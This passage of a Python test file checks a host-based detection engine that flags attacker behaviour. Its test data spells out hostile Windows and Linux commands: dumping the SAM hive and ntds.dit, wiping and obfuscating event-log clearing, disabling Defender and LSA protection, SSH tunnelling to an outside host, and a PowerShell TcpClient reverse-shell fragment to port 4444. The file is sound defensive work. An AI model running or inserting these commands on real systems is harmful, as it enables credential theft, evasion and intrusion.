    "unanswered-calls": [
        ("suspicious", many(10, lambda n: call(n * 30, None, f"203.0.113.{n}", activity="flow", conn_state="S0"))),
        ("confirmed", many(10, lambda n: call(n, None, activity="flow", conn_state="REJ", dst_port=n))),
        ("suspicious", many(5, lambda n: call(n, None, activity="flow", conn_state="REJ", dst_port=5888))),
        ("", many(4, lambda n: call(n, None, activity="flow", conn_state="REJ", dst_port=5888))),
        ("", many(10, lambda n: call(n, None, f"203.0.113.{n}", activity="flow", conn_state="SF"))),
    ],
    "rights-opened": [
        ("suspicious", [run("icacls.exe C:\\data /grant Everyone:(OI)(CI)F")]),
        ("suspicious", [run("icacls D:\\x /grant *S-1-1-0:F")]),
        ("suspicious", [run("takeown.exe /f C:\\Windows\\System32\\sethc.exe")]),
        ("suspicious", [run("chmod 4755 /tmp/sh", path="/usr/bin/chmod")]),
        ("", [run("icacls.exe C:\\data /grant Everyone:(RX)"), run("takeown.exe /f D:\\data")]),
        ("", [run("chmod 0755 /srv/run.sh", path="/usr/bin/chmod"), run("icacls.exe C:\\data /grant CORP\\ana:F")]),
    ],
    "remote-execution": [
        ("suspicious", [run("winrs.exe -r:fil-01 cmd /c hostname")]),
        ("suspicious", [run("cmd.exe /c psexec64 \\\\fil-01 -s cmd")]),
        ("suspicious", [run('wmic.exe /node:fil-01 service where name="x" call startservice')]),
        ("suspicious", [script("Invoke-Command -ComputerName fil-01 -ScriptBlock { hostname }")]),
        ("suspicious", [script("$d = [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application', 'fil-01'))")]),
        ("", [run("winrs.exe -?"), run("psexec.exe -s -i cmd"), run("wmic.exe /node:fil-01 os get caption")]),
        ("", [script("Invoke-Command -ScriptBlock { hostname }"), script("[type]::GetTypeFromProgID('Excel.Application')")]),
    ],
    "traffic-forwarded": [
        ("suspicious", [run("ssh.exe -N -R 8443:localhost:3389 x@203.0.113.9")]),
        ("suspicious", [run("plink.exe -ssh -D 1080 x@203.0.113.9", path=DOWNLOADS + "plink.exe")]),
        ("", [run("ssh.exe -L 5432:localhost:5432 db"), run("ssh.exe -i Rd.key db")]),
    ],
    "data-collected": [
        ("suspicious", [script("$g.CopyFromScreen(0, 0, 0, 0, $b.Size)")]),
        ("suspicious", [run("rar.exe a -hpSecret o.rar D:\\payroll", path="C:\\Tools\\rar.exe")]),
        ("suspicious", [run("psr.exe /start /output o.zip /gui 0")]),
        ("", [run("7z.exe a o.7z D:\\payroll"), run("7z.exe x -pSecret o.7z"), script("Set-Clipboard $text")]),
    ],
    "web-shell-written": [
        ("confirmed", [write(0, "C:\\inetpub\\wwwroot\\x.aspx", "C:\\Windows\\System32\\inetsrv\\w3wp.exe")]),
        ("confirmed", [write(0, "/var/www/html/up/x.php", "/usr/sbin/apache2")]),
        ("suspicious", [write(0, "C:\\inetpub\\wwwroot\\x.aspx", CMD)]),
        ("", [write(0, "C:\\inetpub\\wwwroot\\x.aspx", "C:\\Windows\\System32\\msdeploy.exe"), write(1, "C:\\inetpub\\wwwroot\\x.png", CMD)]),
    ],
    "services-stopped": [
        ("suspicious", many(5, lambda n: run(f"net.exe stop svc{n}", at=n * 75))),
        ("", many(4, lambda n: run(f"net.exe stop svc{n}", at=n))),
        ("", many(5, lambda n: run(f"net.exe stop svc{n}", at=n * 76))),
    ],
}  # fmt: skip


@examples(CASES)
def test_what_is_found_and_how_strong(rule_id, strength, rows):
    assert strengths(rule_id, *rows) == ({strength} if strength else set())


def test_every_rule_of_these_modules_is_found_in_some_example_and_not_in_another():
    modules = (
        accounts, callbacks, controls, credentials, discovery, escalation, evasion, movement, persistence, programs,
    )  # fmt: skip
    there = {rule.rule_id for module in modules for rule in module.RULES}

    assert there | {"services-stopped"} == set(CASES)
    for rule_id, cases in CASES.items():
        strengths = {strength for strength, _ in cases}
        assert "" in strengths, rule_id
        assert strengths - {""}, rule_id


def test_breadth():
    assert len(RULES) >= 40
    assert len({rule.technique for rule in RULES}) >= 30
    assert len({rule.tactic for rule in RULES}) >= 10
    assert len({rule.rule_id for rule in RULES}) == len(RULES)
    assert all(rule.kinds or rule.triggers for rule in RULES)


# ---------------------------------------------------------------- bearing each other out
def decided(*rows):
    return truth_of(*rows).action


@pytest.mark.parametrize(
    ("second", "action"),
    [
        (run("attrib.exe +h x.exe", at=3600), "quarantine_host"),
        (run("attrib.exe +h x.exe", at=3601), "monitor"),
        (run("attrib.exe +h x.exe", at=9, host="WKS-02"), "monitor"),
        (run("cmdkey.exe /list", at=9), "monitor"),
    ],
)
def test_two_suspicious_things_of_different_techniques_on_one_host_within_an_hour_are_confirmed(second, action):
    assert decided(run("cmdkey.exe /list"), second) == action


def test_one_line_does_not_bear_itself_out():
    assert len(found(run("powershell.exe -nop -w hidden Set-MpPreference -DisableRealtimeMonitoring $true"))) == 2
    assert decided(run("powershell.exe -nop -w hidden Set-MpPreference -DisableRealtimeMonitoring $true")) == "monitor"


# ---------------------------------------------------------------- what commands mean
@pytest.mark.parametrize(
    ("name", "text", "meaning"),
    [
        ("cmd.exe", "cmd /c reg save hklm\\sam x", "hive-saved"),
        ("powershell.exe", "wevtutil cl System", "logs-wiped"),
        ("net1.exe", "net1 user eve /add", "account-command"),
        ("acme.exe", "acme reg save hklm\\sam x", ""),
        ("cmd.exe", "cmd /c myreg save hklm\\sam x", ""),
    ],
)
def test_a_command_is_known_by_its_program_and_within_a_shell_by_the_name_in_it(name, text, meaning):
    assert meanings(name, text) == (frozenset({meaning}) if meaning else frozenset())


@pytest.mark.parametrize(
    ("name", "text", "meaning"),
    [
        ("cmd.exe", "cmd /c w^evt^util c^l Security", "logs-wiped"),
        ("powershell.exe", "Cl`ear-EventL`og -LogName Security", "logs-wiped"),
        ("cmd.exe", 'cmd /c "C:\\Windows\\SysWOW64\\reg.exe" save HKLM\\SAM s', "hive-saved"),
        ("reg.exe", "REG SAVE \\\\fil-01\\HKLM\\SECURITY s", "hive-saved"),
        ("winrs.exe", "winrs -r:fil-01 wevtutil cl Security", "logs-wiped"),
        ("ntdsutil.exe", 'ntdsutil "ac in ntds" "i" "cr fu c:\\x" q q', "directory-copied"),
        ("esentutl.exe", "esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\n.dit", "directory-copied"),
        ("esentutl.exe", "esentutl.exe /g C:\\data\\mail.edb", ""),
        ("powershell.exe", "powershell -version 2 -c x", "logging-weakened"),
        ("bash", "bash -c 'echo > /var/log/auth.log'", "logs-wiped"),
        ("rundll32.exe", "rundll32 zipfldr.dll,RouteTheCall calc.exe", "launched-by-proxy"),
        ("wmic.exe", "wmic os get /format:evil.xsl", "launched-by-proxy"),
        ("wmic.exe", "wmic os get caption /format:list", ""),
        ("curl.exe", "curl.exe -o a http://203.0.113.4/a", "download-by-proxy"),
        ("curl.exe", "curl.exe http://10.20.1.4:9090/metrics", ""),
        ("rundll32.exe", "rundll32 url.dll,FileProtocolHandler https://x.example/", ""),
        ("sc.exe", "sc create u binpath= C:\\Users\\ana\\u.exe", "service-changed"),
        ("sc.exe", 'sc create u binpath= "C:\\Program Files\\u.exe"', ""),
        ("bash", "bash -c 'echo x >> /home/ana/.ssh/authorized_keys'", "start-file-written"),
        ("powershell.exe", "$c = New-Object Net.Sockets.TcpClient('203.0.113.4', 4444); $s = $c.GetStream()", "shell-over-network"),
        ("powershell.exe", "(New-Object Net.Sockets.TcpClient).Connect('fil-01', 445)", ""),
    ],
)  # fmt: skip
def test_what_a_command_means_does_not_hang_on_how_it_is_written(name, text, meaning):
    assert (meaning in meanings(name, text)) if meaning else not meanings(name, text)


def test_what_an_encoded_command_holds_counts_as_if_it_stood_in_clear():
    assert "defence-command" in meanings("powershell.exe", encoded("Set-MpPreference -DisableRealtimeMonitoring $true"))
    assert meanings("powershell.exe", encoded("Get-Service | Sort-Object Name | Out-String")) == frozenset()


@pytest.mark.parametrize(
    "path",
    [
        "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\RunAsPPL",
        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\RunAsPPL",
        "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\LSA\\RunAsPPL",
    ],
)
def test_a_registry_path_has_one_form(path):
    assert key_form(path) == "hklm\\system\\currentcontrolset\\control\\lsa\\runasppl"
    assert found(setting(0, "DWORD (0x00000000)", path, REG)) == ["security-switch suspicious L1-1"]


@pytest.mark.parametrize(
    "command",
    [
        "reg.exe add \\\\fil-01\\HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0",
        "powershell.exe Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa RunAsPPL 0",
        "powershell.exe Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' -Name RunAsPPL -Value 0",
    ],
)
def test_a_setting_is_known_in_all_forms_of_its_command(command):
    assert found(run(command)) == ["security-switch suspicious L1-1"]


def test_a_renamed_program_is_known_by_its_version_resource():
    assert found(launch(0, INSTALLED, "acme.exe cl Security", process_original_name="wevtutil.exe")) == [
        "logs-wiped suspicious L1-1"
    ]


@pytest.mark.parametrize(
    "text", ["powershell -enc", "powershell -enc AAAA", "powershell -enc " + "=" * 60, "powershell -e " + "A" * 1999]
)
def test_what_is_no_encoded_text_decodes_to_something_harmless(text):
    assert "\\" not in decoded(text)


@pytest.mark.parametrize(
    ("data", "number"),
    [("1", 1), ("0x1", 1), ("dword (0x00000004)", 4), ("", None), ("on", None), ("binary data", None)],
)
def test_numbers_are_read_as_sensors_write_them(data, number):
    assert number_of(data) == number


@pytest.mark.parametrize(
    "filler", ["a", " ", "\\", "-", "'", "{0}", "reg ", "/add ", "net user ", "[char]1", "powershell -e "]
)
def test_long_lines_are_read_in_time(filler):
    text = (filler * 2048)[:2048]
    start = time.process_time()
    for name in ("powershell.exe", "cmd.exe", "net.exe", "rundll32.exe"):
        meanings.__wrapped__(name, text)

    assert time.process_time() - start < 0.5  # of the processor
